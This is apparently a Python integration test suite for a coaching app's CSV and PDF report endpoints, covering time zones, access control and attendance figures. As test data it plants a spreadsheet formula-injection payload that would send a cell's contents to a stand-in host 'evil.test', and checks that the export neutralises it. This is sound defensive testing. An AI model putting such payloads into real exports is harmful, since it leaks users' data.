"""Reports (issue 27): the CSV reports and the athlete's PDF period report, over real HTTP through
Hosting, each file fetched from its signed URL and read back with Python's ``csv``.

The data is written straight into the Firestore emulator (the Admin client, in batches) once for
the module: times chosen to sit on either side of the period's edges in the caller's zone.
"""

from __future__ import annotations

import csv
import io
import re
import time
import uuid
from datetime import UTC, datetime, timedelta

import pytest
import requests

from devtools import emulators
from devtools.emulators import api, call
from sessionbase.store.client import firestore_client
from tests.unit.domain.test_reports import shown

ZONE = "Europe/Berlin"
MARCH = {"from": "2026-03-01", "to": "2026-03-31"}
EVIL = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def ok(reply: requests.Response, status: int = 200) -> dict:
    assert reply.status_code == status, reply.text
    return reply.json()


def fetched_csv(report: dict) -> list[list[str]]:
    reply = requests.get(report["url"], timeout=30)
    assert reply.status_code == 200
    assert reply.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark
    return list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"), newline="")))


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).astimezone(UTC)


class World:
    """Who and what the module's tests report on."""


@pytest.fixture(scope="module")
def world() -> World:
    if not __import__("os").environ.get("FIRESTORE_EMULATOR_HOST"):
        pytest.skip("needs the emulator suite: run scripts/test.sh")
    emulators.reset()
    run = uuid.uuid4().hex[:6]
    w = World()
    w.coach = emulators.sign_up(f"coach-{run}@example.com", "password123", role="coach")
    w.other = emulators.sign_up(f"other-{run}@example.com", "password123", role="coach")
    w.admin = emulators.sign_up(f"admin-{run}@example.com", "password123", role="admin")
    w.athlete = emulators.sign_up(f"ath-{run}@example.com", "password123", name="Ada")
    w.second = emulators.sign_up(f"bob-{run}@example.com", "password123", name="Bob")
    for user in (w.coach, w.admin, w.athlete):
        ok(api("PUT", "/api/users/me", user, json={"timezone": ZONE}))
    sent = ok(api("POST", "/api/invitations", w.coach, json={"athleteEmail": w.athlete.email}), 201)
    ok(api("POST", f"/api/invitations/{sent['invitationId']}/accept", w.athlete))
    w.group = ok(api("POST", "/api/groups", w.coach, json={"name": "Beam class"}), 201)["groupId"]
    emulators.join_group(w.coach, w.group, w.athlete)
    emulators.join_group(w.coach, w.group, w.second)
    w.gone = f"gone{run}"  # attended, then left the group

    db = firestore_client()
    batch = db.batch()

    def session(sid: str, **fields) -> None:
        batch.set(db.collection("sessions").document(sid), fields)

    base = {"athleteId": w.athlete.uid, "athleteEmail": w.athlete.email, "status": "completed"}
    # 00:30 on 1 March in Berlin (still February in UTC): in the period.
    session(f"m1{run}", **base, coachId=w.coach.uid, coachName="Coach C", athleteName=EVIL,
            event="Vault", sessionType="Analysis", notes="+SUM(1)", motionIQ=72.5,
            createdAt=at("2026-02-28T23:30:00+00:00"),
            actualStart=at("2026-02-28T23:30:00+00:00"), actualEnd=at("2026-03-01T00:30:00+00:00"),
            durationSeconds=3600, completionCode="CODE-ONE")  # fmt: skip
    session(f"m2{run}", **base, coachId=w.coach.uid, athleteName="Ada", event="Beam",
            sessionType="Training", createdAt=at("2026-03-15T12:00:00+00:00"))  # fmt: skip
    # Another coach's session with the athlete (a linked coach reads it too).
    session(f"m3{run}", **base, coachId=w.other.uid, athleteName="Ada", event="Floor",
            sessionType="Training", createdAt=at("2026-03-20T08:00:00+00:00"))  # fmt: skip
    # 00:30 on 1 April in Berlin: out of the period.
    session(f"m4{run}", **base, coachId=w.coach.uid, athleteName="Ada", event="Late",
            createdAt=at("2026-03-31T22:30:00+00:00"))  # fmt: skip
    # The group's live sessions and their attendance.
    w.live = [f"g{i}{run}" for i in range(3)]
    statuses = [
        {w.athlete.uid: "present", w.second.uid: "absent", w.gone: "late"},
        {w.athlete.uid: "late", w.second.uid: "excused"},
        {w.athlete.uid: "absent", w.second.uid: "present"},
    ]
    for i, (sid, marks) in enumerate(zip(w.live, statuses, strict=True)):
        start = at(f"2026-03-{2 + 7 * i:02d}T16:00:00+00:00")
        session(sid, groupId=w.group, coachId=w.coach.uid, sessionType="Class",
                event="@Beam" if i == 0 else "Beam", status="completed",
                createdAt=start, actualStart=start)  # fmt: skip
        for uid, status in marks.items():
            ref = db.collection("sessions").document(sid).collection("attendance").document(uid)
            batch.set(ref, {"status": status, "at": start})
    # Completion codes: one in March (its session above), one in April.
    codes = db.collection("completionCodes")
    batch.set(codes.document("CODE-ONE"), {"sessionId": f"m1{run}", "completedBy": w.coach.uid,
              "completedAt": at("2026-03-01T00:45:00+00:00")})  # fmt: skip
    batch.set(codes.document("CODE-TWO"), {"sessionId": f"m4{run}", "completedBy": w.coach.uid,
              "completedAt": at("2026-04-02T00:45:00+00:00")})  # fmt: skip
    batch.commit()
    w.run = run
    return w


def test_a_linked_coach_s_report_of_an_athlete_is_the_period_s_sessions_cell_by_cell(world):
    w = world
    params = {**MARCH, "athleteId": w.athlete.uid}
    report = ok(api("GET", "/api/reports/sessions", w.coach, params=params))
    assert report["fileName"] == "sessions-2026-03-01-to-2026-03-31.csv"
    assert report["rows"] == 3
    assert report["expiresAt"] > time.strftime("%Y-%m-%dT%H:%M", time.gmtime())
    header, *rows = fetched_csv(report)
    assert header[1] == f"Date ({ZONE})"
    assert header[-1] == f"Created ({ZONE})"
    by = [dict(zip(header, row, strict=True)) for row in rows]
    assert [r["Session ID"] for r in by] == [f"m1{w.run}", f"m2{w.run}", f"m3{w.run}"]
    first = by[0]
    assert first["Date (Europe/Berlin)"] == "2026-03-01 00:30"  # 23:30 UTC the day before
    assert first[f"Actual end ({ZONE})"] == "2026-03-01 01:30"
    assert first["Athlete"] == "'" + EVIL  # shown as text, never run
    assert first["Notes"] == "'+SUM(1)"
    assert (first["Motion IQ"], first["Duration (s)"], first["Completion code"]) == (
        "72.5",
        "3600",
        "CODE-ONE",
    )
    assert (first["Event"], first["Type"], first["Status"], first["Coach"]) == (
        "Vault",
        "Analysis",
        "completed",
        "Coach C",
    )
    assert by[1]["Date (Europe/Berlin)"] == "2026-03-15 13:00"
    assert by[2]["Event"] == "Floor"  # another coach's session: a linked coach reads it too


def test_a_coach_s_own_report_is_their_coached_sessions_also_by_callable(world):
    w = world
    report = ok(call("sessionsReport", MARCH, w.coach))["result"]
    header, *rows = fetched_csv(report)
    ids = [row[0] for row in rows]
    # Every session they coach, their classes too, by creation; not the other coach's, not
    # April's.
    g0, g1, g2 = w.live
    assert ids == [f"m1{w.run}", g0, g1, f"m2{w.run}", g2]


def test_nobody_reports_on_someone_hidden_from_them(world):
    w = world
    for reply in (
        api("GET", "/api/reports/sessions", w.other, params={**MARCH, "athleteId": w.second.uid}),
        api("GET", "/api/reports/sessions", w.other, params={**MARCH, "coachId": w.coach.uid}),
        api("GET", "/api/reports/attendance", w.other, params={**MARCH, "groupId": w.group}),
        api("GET", "/api/reports/athlete", w.other, params={**MARCH, "athleteId": w.athlete.uid}),
        api("GET", "/api/reports/attendance", w.other, params={**MARCH, "groupId": "nope"}),
    ):
        assert (reply.status_code, reply.json()["code"]) == (404, "not-found"), reply.text
    member = api("GET", "/api/reports/attendance", w.athlete, params={**MARCH, "groupId": w.group})
    assert member.status_code == 403
    codes = api("GET", "/api/reports/completions", w.coach, params=MARCH)
    assert codes.status_code == 403
    bad = api("GET", "/api/reports/sessions", w.coach, params={"from": "2026-03-31", "to": "x"})
    assert (bad.status_code, [e["field"] for e in bad.json()["errors"]]) == (400, ["to"])
    missing = api("GET", "/api/reports/attendance", w.coach, params={})
    assert sorted(e["field"] for e in missing.json()["errors"]) == ["from", "groupId", "to"]
    assert not list(emulators.bucket().list_blobs(prefix=f"reports/{w.other.uid}/"))


def test_the_attendance_matrix_counts_each_status_and_rates_each_member(world):
    w = world
    params = {**MARCH, "groupId": w.group}
    report = ok(api("GET", "/api/reports/attendance", w.coach, params=params))
    assert report["rows"] == 3
    header, *rows = fetched_csv(report)
    assert header == [
        f"Member (sessions in {ZONE})",
        "E-mail",
        "2026-03-02 17:00 @Beam",  # starts with the date: nothing to neutralise
        "2026-03-09 17:00 Beam",
        "2026-03-16 17:00 Beam",
        "Present",
        "Late",
        "Absent",
        "Excused",
        "Rate %",
    ]
    by = {row[1] or row[0]: row for row in rows}
    assert by[w.athlete.email][2:] == ["present", "late", "absent", "1", "1", "1", "0", "66.7"]
    assert by[w.second.email][2:] == ["absent", "excused", "present", "1", "0", "1", "1", "50.0"]
    assert by[f"{w.gone} (left)"][2:] == ["late", "", "", "0", "1", "0", "0", "100.0"]
    admin = ok(api("GET", "/api/reports/attendance", w.admin, params=params))
    assert fetched_csv(admin) == [header, *rows]  # the admin's zone is the same


def test_admins_report_the_completion_codes_of_the_period(world):
    w = world
    report = ok(api("GET", "/api/reports/completions", w.admin, params=MARCH))
    header, *rows = fetched_csv(report)
    assert [dict(zip(header, row, strict=True)) for row in rows] == [
        {
            "Completion code": "CODE-ONE",
            f"Completed ({ZONE})": "2026-03-01 01:45",
            "Completed by": "",
            "Completed by ID": w.coach.uid,
            "Session ID": f"m1{w.run}",
            "Athlete": "'" + EVIL,
            "Coach": "Coach C",
            "Type": "Analysis",
            "Event": "Vault",
            f"Actual start ({ZONE})": "2026-03-01 00:30",
            f"Actual end ({ZONE})": "2026-03-01 01:30",
            "Duration (s)": "3600",
        }
    ]


def test_the_period_report_is_a_pdf_with_the_figures_chart_and_sessions(world):
    w = world
    params = {**MARCH, "athleteId": w.athlete.uid}
    report = ok(api("GET", "/api/reports/athlete", w.coach, params=params))
    assert (report["fileName"], report["rows"]) == ("period-report-2026-03-01-to-2026-03-31.pdf", 3)
    data = requests.get(report["url"], timeout=30).content
    assert data.startswith(b"%PDF-")
    assert len(re.findall(rb"/Type /Page\b", data)) == 1
    text = shown(data)
    for words in ("Period report: Ada", "times in Europe/Berlin", "Sessions per week",
                  "Motion IQ of each analysed session", "2026-03-01 00:30", "Floor"):  # fmt: skip
        assert words in text, words
    own = ok(api("GET", "/api/reports/athlete", w.athlete, params=MARCH))
    assert own["rows"] == 3


def test_a_year_of_sessions_makes_a_period_report_in_time(world):
    """Measured: a year of sessions (one a day) through the API; the figures are printed."""
    w = world
    db = firestore_client()
    batch = db.batch()
    start = at("2025-01-01T17:00:00+00:00")
    for day in range(365):
        moment = start + timedelta(days=day)
        batch.set(db.collection("sessions").document(f"y{day}{w.run}"), {
            "athleteId": w.second.uid, "athleteName": "Bob", "coachId": w.other.uid,
            "sessionType": "Training", "event": "Beam", "status": "completed",
            "durationSeconds": 3000, "motionIQ": 50 + day % 50 if day % 4 == 0 else None,
            "createdAt": moment, "actualStart": moment})  # fmt: skip
        if day % 400 == 399 or day == 364:
            batch.commit()
            batch = db.batch()
    params = {"from": "2025-01-01", "to": "2025-12-31"}
    began = time.perf_counter()
    report = ok(api("GET", "/api/reports/athlete", w.second, params=params))
    took = time.perf_counter() - began
    data = requests.get(report["url"], timeout=30).content
    pages = len(re.findall(rb"/Type /Page\b", data))
    print(f"\nperiod report of a year (365 sessions): {took * 1000:.0f} ms through the API, "
          f"{len(data)} bytes, {pages} pages")  # fmt: skip
    assert report["rows"] == 365
    assert pages >= 8
    text = shown(data)
    assert "times in UTC" in text  # Bob set no zone
    assert "2025-12-31 17:00" in text
    assert took < 20


def test_report_files_older_than_a_day_are_removed_by_the_daily_schedule():
    """``remove_old_reports`` (run by ``remove_expired_exports``): yesterday's files go, a
    fresh one stays, a second run removes nothing."""
    from sessionbase.services.reports import KEEP, remove_old_reports
    from sessionbase.store.storage import default_objects

    objects = default_objects()
    path = f"reports/cleanup-{uuid.uuid4().hex}/r.csv"
    objects.write_bytes(path, b"a,b\r\n", "text/csv")
    names = lambda: {blob.name for blob in objects.objects("reports/")}  # noqa: E731
    assert remove_old_reports(objects, datetime.now(UTC)) >= 0
    assert path in names()  # made just now: kept
    later = datetime.now(UTC) + KEEP + timedelta(minutes=5)
    assert remove_old_reports(objects, later) >= 1
    assert path not in names()
    assert remove_old_reports(objects, later) == 0
